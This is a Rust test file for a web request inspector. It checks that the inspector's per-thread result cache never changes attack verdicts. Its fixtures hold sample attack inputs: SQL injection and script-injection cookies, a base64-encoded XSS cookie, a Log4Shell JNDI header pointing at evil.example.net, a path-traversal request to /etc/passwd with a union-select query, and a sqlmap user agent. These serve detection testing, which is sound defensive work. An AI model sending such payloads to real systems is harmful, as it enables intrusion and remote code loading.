//! The per-thread cache of path, query, header and cookie results never changes a verdict: every request
//! gives, inspected again, interleaved with others, in another order, with base64 decoding
//! off, exactly what it gives on a thread that has never seen a request.

use lampyr_core::{Body, Headers, Request};
use lampyr_detect::{InspectConfig, Inspector, Verdict};

fn request(
    method: &str,
    host: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Request {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), Some(q.to_string())),
        None => (target.to_string(), None),
    };
    let mut h = Headers::new();
    for (k, v) in headers {
        h.append(*k, *v);
    }
    Request {
        method: method.into(),
        host: host.into(),
        path,
        query,
        headers: h,
        body: Body::from_parts(body.as_bytes().to_vec(), false, body.len() as u64),
        ..Request::default()
    }
}

/// Requests whose path, query, header and cookie values repeat while what the families read
/// around them (method, media type, host, Referer host) changes.
fn requests() -> Vec<Request> {
    let ua = (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
    );
    let cookie = ("Cookie", "session=4f9c2d1e8b7a; theme=dark");
    let attack_cookie = (
        "Cookie",
        "session=1' or '1'='1' -- ; theme=<script>alert(1)</script>",
    );
    // `<script>alert(1)</script>` in base64.
    let b64_cookie = ("Cookie", "pref=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
    let jndi = ("X-Api-Version", "${jndi:ldap://evil.example.net/a}");
    let redirect = ("X-Return-To", "https://api.example.com/next");
    let foreign = ("Referer", "https://other.example.org/page");
    let own = ("Referer", "https://api.example.com/page");
    let scanner = ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
    let json = ("Content-Type", "application/json");
    let xml = ("Content-Type", "application/xml");
    let mut out = Vec::new();
    let targets = [
        "/api/v1/items?page=2",
        "/api/v1/items?next=https://other.example.org/x&PHPSESSID=abc",
        "/api/v1/../../etc/passwd?q=1' union select password from users--",
        "/api/v1/items?next=https://api.example.com:8443/x&jsessionid=1",
    ];
    for host in ["api.example.com", "other.example.org", ""] {
        for method in ["GET", "POST"] {
            for t in targets {
                out.push(request(method, host, t, &[ua, cookie], ""));
                out.push(request(method, host, t, &[ua, attack_cookie, foreign], ""));
                out.push(request(method, host, t, &[ua, cookie, own], ""));
                out.push(request(method, host, t, &[scanner, b64_cookie, own], ""));
                out.push(request(
                    method,
                    host,
                    t,
                    &[ua, jndi, redirect, foreign, json],
                    "{\"a\":1}",
                ));
                out.push(request(
                    method,
                    host,
                    t,
                    &[ua, redirect, own, xml],
                    "<a>b</a>",
                ));
                out.push(request(method, host, t, &[scanner, cookie, redirect], ""));
            }
        }
    }
    out
}

/// What each request gives on a thread of its own (an empty cache).
fn fresh(inspector: &Inspector, reqs: &[Request]) -> Vec<Verdict> {
    reqs.iter()
        .map(|r| {
            std::thread::scope(|s| {
                s.spawn(|| inspector.inspect(r))
                    .join()
                    .expect("inspection does not panic")
            })
        })
        .collect()
}

fn assert_cache_transparent(cfg: InspectConfig) {
    let inspector = Inspector::new(cfg).expect("rules compile");
    let reqs = requests();
    let expected = fresh(&inspector, &reqs);
    assert!(
        expected.iter().any(Verdict::is_attack) && !expected.iter().all(Verdict::is_attack),
        "the set mixes attacks and benign requests"
    );
    for round in 0..3 {
        for (r, want) in reqs.iter().zip(&expected) {
            assert_eq!(&inspector.inspect(r), want, "in order, round {round}");
        }
        for (r, want) in reqs.iter().zip(&expected).rev() {
            assert_eq!(&inspector.inspect(r), want, "reversed, round {round}");
        }
        // Interleaved: every request right after each other one.
        for (i, (a, want_a)) in reqs.iter().zip(&expected).enumerate() {
            let (b, want_b) = (
                &reqs[(i * 7 + round) % reqs.len()],
                &expected[(i * 7 + round) % reqs.len()],
            );
            assert_eq!(&inspector.inspect(b), want_b);
            assert_eq!(&inspector.inspect(a), want_a);
        }
    }
}

#[test]
fn repeated_header_and_cookie_values_give_the_fresh_verdict() {
    assert_cache_transparent(InspectConfig::default());
}

#[test]
fn cache_is_transparent_with_base64_decoding_off_and_at_paranoia_two() {
    assert_cache_transparent(InspectConfig {
        decode_base64: false,
        ..InspectConfig::default()
    });
    assert_cache_transparent(InspectConfig {
        paranoia: 2,
        ..InspectConfig::default()
    });
}

#[test]
fn two_inspectors_on_one_thread_keep_their_own_results() {
    let strict = Inspector::new(InspectConfig {
        paranoia: 4,
        detection_paranoia: 4,
        ..InspectConfig::default()
    })
    .expect("rules compile");
    let lax = Inspector::new(InspectConfig {
        decode_base64: false,
        ..InspectConfig::default()
    })
    .expect("rules compile");
    let reqs = requests();
    let want_strict = fresh(&strict, &reqs);
    let want_lax = fresh(&lax, &reqs);
    for _ in 0..2 {
        for (i, r) in reqs.iter().enumerate() {
            assert_eq!(strict.inspect(r), want_strict[i]);
            assert_eq!(lax.inspect(r), want_lax[i]);
        }
    }
}
